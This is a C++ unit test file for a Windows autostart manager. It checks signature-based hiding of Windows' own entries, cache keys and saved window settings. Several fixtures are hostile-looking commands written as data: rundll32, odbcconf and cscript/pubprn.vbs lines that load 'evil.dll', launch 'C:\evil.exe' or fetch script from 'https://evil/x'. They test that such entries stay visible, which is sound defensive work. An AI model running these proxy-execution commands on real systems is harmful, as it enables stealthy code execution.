// signature_test.cpp - the Publisher through the scan over the in-memory
// platform: which signatures make an entry Windows' own, what each outcome
// reads, the cache key, and the remembered "Hide Windows' own entries".
#include "../../catalogue/catalogue.h"
#include "../../store/store.h"
#include "../support/memory_platform.h"
#include "../support/store_helpers.h"

#include <gtest/gtest.h>

#include <cstddef>
#include <string>

namespace {

const char *kTool = "C:\\Tools\\tool.exe";
const char *kWindowsTool = "C:\\Windows\\System32\\tool.exe";

class Publisher : public testing::Test {
protected:
    void SetUp() override
    {
        MemReset();
        ForgetSignatures();
    }
    void TearDown() override { ForgetSignatures(); }

    // The first record of a scan of one Run value of all users per path,
    // in order (the user's own are never hidden).
    const AutostartItem &ScanOf(const std::vector<const char *> &paths)
    {
        for (size_t i = 0; i < paths.size(); ++i)
            MemSetString(PLAT_HKLM, RUN_KEY, ("e" + std::to_string(i)).c_str(), paths[i]);
        ScanCatalogue();
        return ItemCatalogue.items[0];
    }
};

TEST_F(Publisher, OnlyAVerifiedWindowsSignerWithAMicrosoftRootIsWindowsOwn)
{
    struct Case {
        int32_t state;
        const char *signer;
        bool microsoftRoot;
        int windowsOwn;
        const char *text;
    } cases[] = {
        {PLAT_TRUST_VERIFIED, "Microsoft Windows", true, 1, "Microsoft Windows (verified)"},
        // A self-made certificate of that name, trusted here: not Windows'.
        {PLAT_TRUST_VERIFIED, "Microsoft Windows", false, 0, "Microsoft Windows (verified)"},
        {PLAT_TRUST_VERIFIED, "Microsoft Corporation", true, 0, "Microsoft Corporation (verified)"},
        {PLAT_TRUST_CHANGED, "Microsoft Windows", true, 0, "signature not valid: changed since signed"},
        {PLAT_TRUST_UNTRUSTED_ROOT, "Contoso Ltd", false, 0, "signature not valid: untrusted root"},
        {PLAT_TRUST_EXPIRED, "Contoso Ltd", false, 0, "signature not valid: expired without timestamp"},
        {PLAT_TRUST_INVALID, "", false, 0, "signature not valid: error 0x800B010C"},
    };
    for (const Case &c : cases) {
        SetUp();
        MemSetSignature(kWindowsTool, c.state, c.signer, c.microsoftRoot, (int32_t)0x800B010C);
        const AutostartItem &item = ScanOf({kWindowsTool});
        EXPECT_EQ(c.windowsOwn, item.signedByWindows) << c.signer << " " << c.state;
        EXPECT_STREQ(c.text, item.publisher);
        EXPECT_EQ(c.windowsOwn, ItemHiddenAsWindows(&item, 1));
        EXPECT_EQ(0, ItemHiddenAsWindows(&item, 0)) << "nothing is hidden with the option off";
    }
    // Where the Windows folder cannot be known, nothing is taken for Windows'.
    SetUp();
    MemSetSignature(kWindowsTool, PLAT_TRUST_VERIFIED, WINDOWS_SIGNER, true);
    const AutostartItem &own = ScanOf({kWindowsTool});
    ASSERT_EQ(1, ItemHiddenAsWindows(&own, 1));
    MemFailCall(MEM_SHELL_FOLDER, 0);
    EXPECT_EQ(0, ItemHiddenAsWindows(&own, 1));
    MemClearFaults();
    // A copy of Windows' file outside the Windows folders runs whatever DLL
    // lies beside it; a bare name is whatever the logon's search finds.
    for (const char *command : {kTool, "C:\\Windows\\Temp\\tool.exe", "tool.exe"}) {
        SetUp();
        MemSetSignature(kTool, PLAT_TRUST_VERIFIED, WINDOWS_SIGNER, true);
        MemSetSignature(kWindowsTool, PLAT_TRUST_VERIFIED, WINDOWS_SIGNER, true);
        MemSetSignature("C:\\Windows\\Temp\\tool.exe", PLAT_TRUST_VERIFIED, WINDOWS_SIGNER, true);
        MemAddSearchFolder("C:\\Windows\\System32");
        const AutostartItem &item = ScanOf({command});
        EXPECT_TRUE(item.signedByWindows) << command << " " << item.target;
        EXPECT_EQ(0, ItemHiddenAsWindows(&item, 1)) << command;
    }
}

// The logon expands a command with the user's own variables: a user who
// sets %windir% runs a ctfmon.exe of their own, which is shown and said.
// Nor is a row hidden that the user's places hold, that a host runs, or
// whose variables the user may define.
TEST_F(Publisher, OnlyWhatNoOrdinaryProgramCouldPlantIsHidden)
{
    const char *ctfmon = "C:\\WINDOWS\\System32\\ctfmon.exe";
    const char *cmd = "C:\\WINDOWS\\System32\\cmd.exe";
    auto windowsFiles = [&] {
        for (const char *file : {ctfmon, cmd}) {
            MemAddFile(file, "MZ");
            MemSetSignature(file, PLAT_TRUST_VERIFIED, WINDOWS_SIGNER, true);
        }
    };
    windowsFiles();
    const char *command = "%windir%\\System32\\ctfmon.exe";
    EXPECT_EQ(1, ItemHiddenAsWindows(&ScanOf({command}), 1));
    MemSetString(PLAT_HKCU, "Environment", "windir", "C:\\Users\\me\\w");
    const AutostartItem &own = ScanOf({command});
    EXPECT_STREQ("C:\\Users\\me\\w\\System32\\ctfmon.exe", own.target);
    EXPECT_EQ(0, ItemHiddenAsWindows(&own, 1));
    char notes[4 * TEXT_FIELD_SIZE];
    ItemNotes(&own, notes, sizeof notes);
    EXPECT_NE(std::string::npos,
              std::string(notes).find("%windir% is set by this user to C:\\Users\\me\\w"))
        << notes;

    SetUp();
    windowsFiles();
    MemSetString(PLAT_HKLM, "System\\CurrentControlSet\\Control\\Session Manager\\Environment",
                 "Tools", "C:\\WINDOWS\\System32");
    const AutostartItem &viaTools = ScanOf({"%Tools%\\ctfmon.exe"});
    EXPECT_STREQ(ctfmon, viaTools.target) << "the system's variables as the logon reads them";
    EXPECT_EQ(0, ItemHiddenAsWindows(&viaTools, 1)) << "a variable the user may define";
    EXPECT_EQ(0, ItemHiddenAsWindows(&ScanOf({cmd}), 1)) << "cmd.exe runs the user's AutoRun";
    SetUp();
    windowsFiles();
    MemSetString(PLAT_HKCU, RUN_KEY, "Mine", ctfmon);
    ScanCatalogue();
    EXPECT_EQ(0, ItemHiddenAsWindows(&ItemCatalogue.items[IndexOf("Mine")], 1));
}

// Windows' own hosts run what their arguments name: such an entry is shown.
TEST_F(Publisher, AWindowsHostGivenSomethingToRunIsNeverHidden)
{
    const char *host = "C:\\Windows\\System32\\rundll32.exe";
    MemAddFile(host, "MZ");
    MemSetSignature(host, PLAT_TRUST_VERIFIED, WINDOWS_SIGNER, true);
    std::string run = std::string(host) + " C:\\Users\\Public\\evil.dll,Start";
    EXPECT_EQ(0, ItemHiddenAsWindows(&ScanOf({run.c_str()}), 1));
    SetUp();
    MemAddFile(host, "MZ");
    MemSetSignature(host, PLAT_TRUST_VERIFIED, WINDOWS_SIGNER, true);
    EXPECT_EQ(0, ItemHiddenAsWindows(&ScanOf({host}), 1)) << "a host runs what it is set up to";
    // The target shown is Windows' own file named in the host's arguments.
    const char *dll = "C:\\Windows\\System32\\shell32.dll";
    const char *script = "C:\\Windows\\System32\\pubprn.vbs";
    for (const char *file : {dll, script}) {
        MemAddFile(file, "MZ");
        MemSetSignature(file, PLAT_TRUST_VERIFIED, WINDOWS_SIGNER, true);
    }
    std::string viaDll = std::string("rundll32.exe \"") + dll + "\",ShellExec_RunDLL C:\\evil.exe";
    std::string viaScript = std::string("cscript.exe /b \"") + script + "\" x script:https://evil/x";
    // A copy of a Windows file given that file; a Windows program no list of
    // hosts names, given something to run.
    const char *odbc = "C:\\Windows\\System32\\odbcconf.exe";
    MemAddFile(odbc, "MZ");
    MemSetSignature(odbc, PLAT_TRUST_VERIFIED, WINDOWS_SIGNER, true);
    std::string impostor = std::string("C:\\Users\\u\\AppData\\Roaming\\shell32 \"") + dll + "\"";
    std::string viaOdbc = std::string(odbc) + " /a {regsvr C:\\Users\\u\\evil.dll}";
    for (const std::string &command : {viaDll, viaScript, impostor, viaOdbc}) {
        AutostartItem item = ScanOf({command.c_str()});
        EXPECT_TRUE(item.signedByWindows) << item.target;
        EXPECT_EQ(0, ItemHiddenAsWindows(&item, 1)) << command;
    }
}

TEST_F(Publisher, UnsignedMissingNetworkAndUncheckableTargets)
{
    MemAddFile(kTool, "MZ");
    MemSetNetworkDrive('N');
    MemAddFile("C:\\Tools\\locked.exe", "MZ");
    MemFailCall(MEM_CHECK_SIGNATURE, 1, PLAT_ERROR_ACCESS_DENIED);
    ScanOf({"C:\\Tools\\locked.exe", kTool, "C:\\Tools\\gone.exe", "N:\\share\\tool.exe"});
    EXPECT_STREQ("not checked: error 0x80070005", ItemCatalogue.items[0].publisher);
    EXPECT_STREQ(PUBLISHER_NOT_SIGNED, ItemCatalogue.items[1].publisher);
    EXPECT_STREQ("n/a", ItemCatalogue.items[2].publisher);
    EXPECT_STREQ(PUBLISHER_NETWORK, ItemCatalogue.items[3].publisher);
    EXPECT_EQ(0, MemNetworkTouches());
    ScanCatalogue();
    EXPECT_EQ(3, MemCallCount(MEM_CHECK_SIGNATURE)) << "a failed check is made again";
    EXPECT_STREQ(PUBLISHER_NOT_SIGNED, ItemCatalogue.items[0].publisher);
}

TEST_F(Publisher, ResultsAreKeptByPathSizeAndWriteTime)
{
    MemSetSignature(kTool, PLAT_TRUST_VERIFIED, "Contoso Ltd");
    ScanOf({kTool, "c:\\tools\\TOOL.EXE"});
    EXPECT_EQ(1, MemCallCount(MEM_CHECK_SIGNATURE)) << "one check for one file, in any case";
    ScanCatalogue();
    EXPECT_EQ(1, MemCallCount(MEM_CHECK_SIGNATURE));

    MemSetWriteTime(kTool, 42);
    MemSetSignature(kTool, PLAT_TRUST_CHANGED, "Contoso Ltd");
    ScanCatalogue();
    EXPECT_EQ(2, MemCallCount(MEM_CHECK_SIGNATURE)) << "written since";
    EXPECT_STREQ("signature not valid: changed since signed", ItemCatalogue.items[0].publisher);

    MemAddFile(kTool, "MZ longer");
    MemSetWriteTime(kTool, 42);
    MemSetSignature(kTool, PLAT_TRUST_VERIFIED, "Contoso Ltd");
    ScanCatalogue();
    EXPECT_EQ(3, MemCallCount(MEM_CHECK_SIGNATURE)) << "another size, same time";
    EXPECT_STREQ("Contoso Ltd (verified)", ItemCatalogue.items[1].publisher);
}

TEST_F(Publisher, HidingIsOnUntilTurnedOffAndRemembered)
{
    EXPECT_EQ(1, ReadHideWindowsSetting());
    EXPECT_EQ(PLAT_OK, SaveHideWindowsSetting(0));
    EXPECT_EQ(0, ReadHideWindowsSetting());
    EXPECT_EQ(PLAT_OK, SaveHideWindowsSetting(1));
    EXPECT_EQ(1, ReadHideWindowsSetting());
    MemSetString(PLAT_HKCU, "Software\\Orvane Tool", "HideWindowsEntries", "0");
    EXPECT_EQ(1, ReadHideWindowsSetting()) << "not a DWORD: not our choice";
    MemDenyWrites(PLAT_HKCU, true);
    EXPECT_EQ(PLAT_ERROR_ACCESS_DENIED, SaveHideWindowsSetting(0));
}

// The window's layout comes back whole; a value of another kind is ignored.
TEST_F(Publisher, WindowLayoutIsKeptWholeOrNotAtAll)
{
    WindowLayout saved = {800, 600, {150, 40, 550}, 1, 120, 2, 1, 70, 90};
    WindowLayout read = {1, 2, {3, 4, 5}, 0, 6, 7, 0, 8, 9};
    EXPECT_EQ(0, ReadWindowLayoutSetting(&read));
    EXPECT_EQ(PLAT_OK, SaveWindowLayoutSetting(&saved));
    ASSERT_EQ(1, ReadWindowLayoutSetting(&read));
    EXPECT_EQ(600, read.height);
    EXPECT_EQ(550, read.columns[2]);
    EXPECT_EQ(1, read.maximised);
    EXPECT_EQ(2, read.sortColumn);
    EXPECT_EQ(1, read.sortDescending);
    EXPECT_EQ(70, read.changeColumn);
    EXPECT_EQ(90, read.costColumn);
    // One kept before the Cost column: its width unknown, the rest kept.
    MemSetValue(PLAT_HKCU, "Software\\Orvane Tool", "MainWindowLayout", PLAT_REG_BINARY,
                std::string((const char *)&saved, offsetof(WindowLayout, costColumn)));
    ASSERT_EQ(1, ReadWindowLayoutSetting(&read));
    EXPECT_EQ(0, read.costColumn);
    EXPECT_EQ(70, read.changeColumn);
    // One kept before the Change column: its width unknown, the sort kept.
    MemSetValue(PLAT_HKCU, "Software\\Orvane Tool", "MainWindowLayout", PLAT_REG_BINARY,
                std::string((const char *)&saved, offsetof(WindowLayout, changeColumn)));
    ASSERT_EQ(1, ReadWindowLayoutSetting(&read));
    EXPECT_EQ(0, read.changeColumn);
    EXPECT_EQ(2, read.sortColumn);
    // One kept before the State column and the sort: those unknown.
    MemSetValue(PLAT_HKCU, "Software\\Orvane Tool", "MainWindowLayout", PLAT_REG_BINARY,
                std::string((const char *)&saved, offsetof(WindowLayout, stateColumn)));
    ASSERT_EQ(1, ReadWindowLayoutSetting(&read));
    EXPECT_EQ(1, read.maximised);
    EXPECT_EQ(0, read.stateColumn);
    EXPECT_EQ(-1, read.sortColumn);
    // A layout kept before the maximised state was: its size, not maximised.
    const size_t older = offsetof(WindowLayout, maximised);
    MemSetValue(PLAT_HKCU, "Software\\Orvane Tool", "MainWindowLayout", PLAT_REG_BINARY,
                std::string((const char *)&saved, older));
    ASSERT_EQ(1, ReadWindowLayoutSetting(&read));
    EXPECT_EQ(800, read.width);
    EXPECT_EQ(0, read.maximised);
    MemSetValue(PLAT_HKCU, "Software\\Orvane Tool", "MainWindowLayout", PLAT_REG_BINARY,
                std::string((const char *)&saved, older + 1));
    EXPECT_EQ(0, ReadWindowLayoutSetting(&read)) << "neither size: refused";
    MemSetString(PLAT_HKCU, "Software\\Orvane Tool", "MainWindowLayout", "800");
    read.width = 7;
    EXPECT_EQ(0, ReadWindowLayoutSetting(&read));
    EXPECT_EQ(7, read.width);
}

// A disabled entry of Windows' own that the window hides is not deleted
// unseen: its key stays whole and the status says why; other keys go.
TEST_F(Publisher, CleanUpKeepsTheKeyOfAHiddenEntry)
{
    const char *runOff = RUN_KEY "-";
    const char *runOnceOff = CURRENT_VERSION_KEY "\\RunOnce-";
    MemSetSignature(kWindowsTool, PLAT_TRUST_VERIFIED, WINDOWS_SIGNER, true);
    MemSetString(PLAT_HKLM, runOff, "Windows", kWindowsTool);
    MemSetString(PLAT_HKLM, runOff, "Beside", "C:\\beside.exe");
    MemSetString(PLAT_HKCU, runOnceOff, "Other", "C:\\other.exe");
    // A hidden row of a longer key keeps only its own key.
    MemSetString(PLAT_HKLM, POLICY_EXPLORER_KEY "\\Run-", "Policy", kWindowsTool);
    MemSetString(PLAT_HKLM, runOnceOff, "Machine", "C:\\machine.exe");
    ScanCatalogue();
    std::vector<int32_t> states = Desired({}), hidden;
    for (int i = 0; i < ItemCatalogue.count; ++i)
        hidden.push_back(ItemHiddenAsWindows(&ItemCatalogue.items[i], 1));
    Statuses.clear();
    CleanUpDisabledShown(states.data(), hidden.data(), (int32_t)states.size(), &StatusFront);
    EXPECT_TRUE(MemValueExists(PLAT_HKLM, runOff, "Windows"));
    EXPECT_TRUE(MemValueExists(PLAT_HKLM, runOff, "Beside"));
    EXPECT_FALSE(MemKeyExists(PLAT_HKCU, runOnceOff));
    EXPECT_FALSE(MemKeyExists(PLAT_HKLM, runOnceOff));
    EXPECT_TRUE(MemValueExists(PLAT_HKLM, POLICY_EXPLORER_KEY "\\Run-", "Policy"));
    ASSERT_EQ(1u, Statuses.size());
    EXPECT_NE(std::string::npos,
              Statuses[0].find("Kept HKLM\\" RUN_KEY "-: it holds Windows' own entries, which are hidden."))
        << Statuses[0];
}

} // namespace
